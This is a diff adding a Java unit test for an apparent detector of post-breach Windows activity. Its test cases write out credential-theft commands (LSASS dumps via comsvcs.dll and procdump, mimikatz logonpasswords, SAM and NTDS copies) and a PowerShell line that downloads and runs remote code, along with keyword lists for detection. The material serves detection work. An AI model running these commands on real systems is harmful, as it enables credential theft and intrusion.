@@ -1,0 +1,135 @@
+package org.wachtpost.inspect.check;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+
+import java.time.Duration;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.wachtpost.inspect.model.Confidence;
+
+/** Command lines and scripts as public write-ups have them. */
+class AfterwardsTest {
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '!',
+      value = {
+        "rundll32 C:\\windows\\system32\\comsvcs.dll MiniDump 684 C:\\windows\\temp\\cache.tmp full"
+            + "!passwords dumped or tool run!HIGH",
+        "\"rundll32.exe\" C:\\windows\\System32\\comsvcs.dll, #24 684 c:\\x.tmp full"
+            + "!passwords dumped or tool run!HIGH",
+        "rundll32 C:\\programdata\\a.dll,MiniDump 684 c:\\x.tmp full"
+            + "!passwords dumped or tool run!HIGH",
+        "procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass"
+            + "!passwords dumped or tool run!HIGH",
+        "p.exe -accepteula -ma lsass c:\\root\\l!passwords dumped or tool run!HIGH",
+        "a.exe \"sekurlsa::logonpasswords\" exit!passwords dumped or tool run!HIGH",
+        "procdump -ma 4711!passwords dumped or tool run!LOW",
+        "reg  save hklm\\sam c:\\temp\\s!passwords copied from the registry!HIGH",
+        "reg.exe save HKLM\\SECURITY c:\\temp\\s!passwords copied from the registry!HIGH",
+        "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\" q q"
+            + "!the domain's password store copied!MEDIUM",
+        "c:\\programdata\\7z.exe a -tzip c:\\programdata\\it.zip d:\\mail\\ceo.pst"
+            + "!mail or dumps packed!MEDIUM",
+        "makecab c:\\windows\\temp\\a.pst c:\\inetpub\\wwwroot\\a.png!mail or dumps packed!MEDIUM",
+        "nltest /domain_trusts!the domain explored!LOW",
+        "net group \"Exchange Domain Servers\" /domain!the domain explored!LOW"
+      })
+  void whatACommandDoesIsToldWhateverItIsCalled(String command, String title, Confidence sure) {
+    assertThat(Commands.deeds(command))
+        .singleElement()
+        .matches(deed -> deed.title().equals(title) && deed.confidence() == sure);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "rundll32 shell32.dll,Control_RunDLL",
+        "reg save hklm\\software\\example c:\\x",
+        "reg query hklm\\sam",
+        "7z.exe a c:\\backup\\logs.7z c:\\inetpub\\logs",
+        "cmd /c dir c:\\root\\lsass*.dmp",
+        "net localgroup users",
+        "nltest /sc_query:example.test"
+      })
+  void whatAdministratorsDoIsNoDeed(String command) {
+    assertThat(Commands.deeds(command)).isEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "IEX (New-Object Net.WebClient).DownloadString('http://x.test/a'); Invoke-Mimikatz",
+        "Invoke-Mimikatz -DumpCreds; 'a' -match 'b' # webshell",
+        "'x' | Select-String 'y'; C:\\t\\mimikatz.exe",
+        "$t = 'Invoke-Mimikatz'; & $t",
+        "function Invoke-Mimikatz { if ($x -imatch '^\\s*$') {} }",
+        "Get-Process lsass | Out-Minidump -DumpFilePath c:\\t",
+        "Write-Output \"$(Invoke-Mimikatz)\" | findstr a",
+        "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump $id c:\\t\\x.dmp full # findstr"
+      })
+  void whoUsesAToolIsNotTakenForWhoLooksForIt(String script) {
+    assertThat(Scripts.judge(script, true))
+        .isNotNull()
+        .matches(one -> one.confidence() == Confidence.HIGH);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "$f | Select-String 'mimikatz','chopper'",
+        "$words = @('procdump', 'lsass.exe', 'mimikatz')\nGet-ChildItem $p | findstr $words",
+        "# looks for mimikatz\nGet-ChildItem -Recurse -Include mimikatz.exe",
+        "$x = @'\nInvoke-Mimikatz\n'@\nWrite-Host 'done'"
+      })
+  void whoLooksForAToolIsNotTakenForWhoUsesIt(String script) {
+    assertThat(Scripts.judge(script, true))
+        .isNotNull()
+        .matches(one -> one.confidence() == Confidence.LOW);
+  }
+
+  /** Whoever adds a search to his script is not believed. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "$f | Select-String 'mimikatz'; IEX (irm http://x.test/a)",
+        "$n = \"Invoke-Mimi\" + \"katz mimikatz\"; & \"$n\" | findstr a",
+        "'mimikatz' -match 'x'; [Reflection.Assembly]::Load($b)"
+      })
+  void aSearchBesideWhatIsRunHidesNothing(String script) {
+    assertThat(Scripts.judge(script, true))
+        .isNotNull()
+        .matches(one -> one.confidence() == Confidence.MEDIUM);
+  }
+
+  /** A later part of a script may begin within a text: what seems text is run, and the reverse. */
+  @Test
+  void aLaterPartIsNotReadAsIfItWereTheFirst() {
+    String part = "a'; IEX 'mimikatz' | Select-String x '";
+    assertThat(Scripts.judge(part, false))
+        .isNotNull()
+        .matches(one -> one.confidence() != Confidence.LOW);
+    assertThat(Scripts.judge("$a = 'mimikatz'\n$b | Select-String $a", false))
+        .isNotNull()
+        .matches(one -> one.confidence() == Confidence.LOW);
+  }
+
+  @Test
+  void aScriptThatNamesNoToolIsNotJudged() {
+    assertThat(Scripts.judge(".\\procdump.exe -ma w3wp.exe", true)).isNull();
+    assertThat(Scripts.judge("", true)).isNull();
+  }
+
+  @Test
+  void longTextsAreLookedThroughOnce() {
+    assertTimeoutPreemptively(
+        Duration.ofSeconds(30),
+        () -> {
+          assertThat(Commands.deeds("comsvcs procdump rundll32 ".repeat(100_000))).hasSize(1);
+          assertThat(Scripts.judge("'mimikatz ".repeat(100_000) + "\"$(<# @'".repeat(9_000), true))
+              .isNotNull();
+        });
+  }
+}
